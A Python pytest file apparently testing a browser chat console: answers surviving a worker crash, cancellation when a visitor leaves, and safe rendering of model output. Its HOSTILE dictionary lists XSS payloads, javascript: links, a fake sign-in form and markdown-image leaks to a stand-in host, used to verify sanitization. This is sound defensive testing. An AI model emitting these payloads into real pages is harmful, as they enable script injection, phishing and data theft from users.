"""The chat in a browser: an answer outlives its worker, a visitor who leaves ends it, and no model's text gets out."""

import json
import time
from typing import Any

import pytest
from tests.integration.console.pages.conftest import Visit
from tests.support.browser import faults
from tests.support.console_stack import ANSWER, ConsoleStack
from tests.support.gateway_rig import until

CHAT = "team/chat"
LONG = " ".join(f"word{n}" for n in range(40))
HOSTILE = {
    "script": "<script>document.title = 'owned'; window.owned = 1</script>",
    "handler": '<img src=x onerror="window.owned = 1">',
    "image": "![secret](https://example.invalid/leak?q=1) <img src='https://example.invalid/leak'>",
    "frame": "<iframe src='https://example.invalid/leak'></iframe><object data='x'></object><embed src='x'>",
    "form": "<form action='https://example.invalid/'><input name=key><button>Sign in</button></form>",
    "style": "<style>body { display: none }</style><p style='position: fixed; inset: 0'>over all</p>",
    "link": "[click](javascript:window.owned=1) <a href='data:text/html,<script>1</script>'>x</a> <base href='//x'>",
    "names": "<p id='panes' class='danger' name='csrf'>twice</p><meta name=csrf content=x>",
    "closing": "</div></section></main></body></html><h1>Outside</h1>",
    "svg": "<svg><script>window.owned=1</script><a xlink:href='javascript:1'><text>x</text></a></svg><math><mtext>",
    "htmx": "<div hx-get='/fleet' hx-trigger='load'>x</div><form data-submits></form>",
    "broken": "```\n| a | b\n**_`[[](](((\n" + "> " * 300 + "\n" + "* " * 300,
    "long line": "x" * 1_000_000,
    "control": "a\u202eb\u0000c\u2028d" + "\u0301" * 500,
}


def opened(visit: Visit, **options: Any) -> Any:
    page = visit("/chat", **options)
    page.locator("#model option", has_text=CHAT).first.wait_for(state="attached")
    page.locator("#model").select_option(CHAT)
    return page


def say(page: Any, text: str) -> Any:
    """Send it; the bubble of the last answer."""
    page.get_by_label("What you say").fill(text)
    page.get_by_label("What you say").press("Enter")
    page.locator(".message.user", has_text=text[:40]).last.wait_for()
    return page.locator(".message.assistant").last


def test_an_answer_is_shown_with_its_speed_and_worker_and_kept(visit: Visit, stack: ConsoleStack) -> None:
    stack.say(ANSWER)
    page = opened(visit)
    bubble = say(page, "Hello")
    bubble.locator(".facts-line", has_text="tokens/s").wait_for()
    assert bubble.locator(".body").inner_text() == ANSWER
    assert any(worker in bubble.locator(".facts-line").inner_text() for worker in stack.workers)
    address = page.url
    page.reload()
    assert page.url == address
    assert page.locator(".message.assistant .body").inner_text() == ANSWER
    stack.say("Another one.")
    page.get_by_role("button", name="Answer again").click()
    page.locator(".message.assistant .body", has_text="Another one.").wait_for()
    page.get_by_role("button", name="older").click()
    assert page.locator(".message.assistant .body").inner_text() == ANSWER
    assert faults(page) == []
    assert page.complaints == []


def test_two_models_answer_side_by_side(visit: Visit, stack: ConsoleStack) -> None:
    stack.say(ANSWER)
    stack.deploy("beside")
    try:
        page = opened(visit)
        page.locator("#second option", has_text="beside").wait_for(state="attached")
        page.locator("#second").select_option("beside")
        say(page, "Hello")
        page.locator(".message.assistant .facts-line", has_text="tokens/s").nth(1).wait_for()
        assert page.locator(".message.assistant > header").all_inner_texts() == [CHAT, "beside"]
        assert page.locator(".message.assistant .body").all_inner_texts() == [ANSWER, ANSWER]
    finally:
        stack.undeploy("beside")


def test_an_answer_outlives_its_worker(visit: Visit, stack: ConsoleStack) -> None:
    stack.say(LONG, token_seconds=0.01)
    page = opened(visit)
    bubble = say(page, "Tell me")
    bubble.locator(".body", has_text="word2 ").wait_for()
    (busy,) = [worker_id for worker_id, worker in stack.workers.items() if worker.sequences]
    stack.kill(busy)
    bubble.locator(".facts-line", has_text="tokens/s").wait_for()
    assert bubble.locator(".body").inner_text() == LONG
    (other,) = stack.workers
    assert f"moved to {other}" in bubble.locator(".facts-line").inner_text()
    stack.undeploy("chat")
    stack.deploy("chat", CHAT, workers=2)


@pytest.mark.parametrize("way", ["stop", "close", "leave"])
def test_who_leaves_ends_the_request(visit: Visit, stack: ConsoleStack, way: str) -> None:
    stack.say(LONG * 4, token_seconds=0.05)
    before = sum(len(worker.cancelled) for worker in stack.workers.values())
    page = opened(visit)
    say(page, "Tell me").locator(".body", has_text="word1 ").wait_for()
    if way == "stop":
        page.get_by_role("button", name="Stop", exact=True).click()
        page.locator(".facts-line", has_text="stopped").wait_for()
    elif way == "close":
        page.close()
    else:
        page.goto("/usage")
    stack.run(until(lambda: sum(len(worker.cancelled) for worker in stack.workers.values()) == before + 1))
    assert not any(worker.sequences for worker in stack.workers.values())


def test_a_message_of_100_000_characters(visit: Visit, stack: ConsoleStack) -> None:
    page = opened(visit)
    bubble = say(page, "long " * 20_000)
    bubble.locator(".facts-line", has_text="context").wait_for()
    stack.say(ANSWER)
    page.get_by_role("button", name="New chat").click()
    say(page, "Hello").locator(".facts-line", has_text="tokens/s").wait_for()


def assert_harmless(body: Any) -> None:
    """No element and no attribute in it that could do anything."""
    tags = set(body.evaluate("body => [...body.querySelectorAll('*')].map(each => each.tagName)"))
    assert not tags & {
        "SCRIPT",
        "IMG",
        "IFRAME",
        "OBJECT",
        "EMBED",
        "FORM",
        "INPUT",
        "STYLE",
        "SVG",
        "MATH",
        "DIV",
        "META",
    }
    attributes = body.evaluate(
        "body => [...body.querySelectorAll('*')].flatMap(each => [...each.attributes].map(each => each.name))"
    )
    assert set(attributes) <= {"href", "class", "target", "rel", "data-highlighted"}
    for link in body.locator("a").all():
        assert (link.get_attribute("href") or "https://").startswith(("http://", "https://"))
        assert link.get_attribute("rel") == "noopener noreferrer nofollow"


@pytest.mark.parametrize("kind", HOSTILE)
def test_what_a_model_writes_changes_nothing_outside_its_bubble(visit: Visit, kind: str) -> None:
    asked = list[str]()
    page = opened(visit)
    page.on("request", lambda request: asked.append(request.url))
    told = [{"text": HOSTILE[kind], "worker": "w-1"}, {"done": {"seconds": 1, "first_seconds": 0.5}}]
    body = "".join(f"data: {json.dumps(each)}\n\n" for each in told)
    page.route("**/chat/answer", lambda route: route.fulfill(body=body, content_type="text/event-stream"))
    outside = (
        "[...document.querySelectorAll('body *')].filter(each => !each.closest('#panes, #chats')).map(each => "
        "each.outerHTML.slice(0, 60)).join() + document.title.replace(/.*·/, '') + window.owned"
    )
    page.get_by_role("button", name="New chat").click()
    before = page.evaluate(outside)
    bubble = say(page, "Hello")
    bubble.locator(".facts-line", has_text="tokens/s").wait_for()
    assert page.evaluate(outside) == before
    assert_harmless(bubble.locator(".body"))
    assert not [url for url in asked if "example.invalid" in url]
    assert page.evaluate("document.documentElement.scrollWidth - innerWidth") <= 0
    assert page.locator("#panes").count() == 1


def test_hostile_text_comes_through_the_whole_stack_as_text(visit: Visit, stack: ConsoleStack) -> None:
    stack.say("<img src=x onerror='window.owned=1'> **bold** `<script>`")
    page = opened(visit)
    bubble = say(page, "<b>Hello</b>")
    bubble.locator(".facts-line", has_text="tokens/s").wait_for()
    assert bubble.locator(".body").inner_text().split() == ["bold", "<script>"]
    assert bubble.locator(".body strong").inner_text() == "bold"
    assert page.locator(".message.user .body").inner_text() == "<b>Hello</b>"
    assert page.evaluate("window.owned") is None


def test_without_a_gateway_the_chat_says_so_and_recovers(visit: Visit, stack: ConsoleStack) -> None:
    stack.say(ANSWER)
    page = opened(visit)
    stack.stop_gateway()
    try:
        bubble = say(page, "Hello")
        bubble.locator(".facts-line", has_text="does not answer").wait_for()
    finally:
        stack.start_gateway()
    deadline = time.monotonic() + 60
    while "tokens/s" not in page.locator(".message.assistant .facts-line").last.inner_text():
        assert time.monotonic() < deadline
        page.get_by_role("button", name="Answer again").last.click()
        page.locator("#send").wait_for()
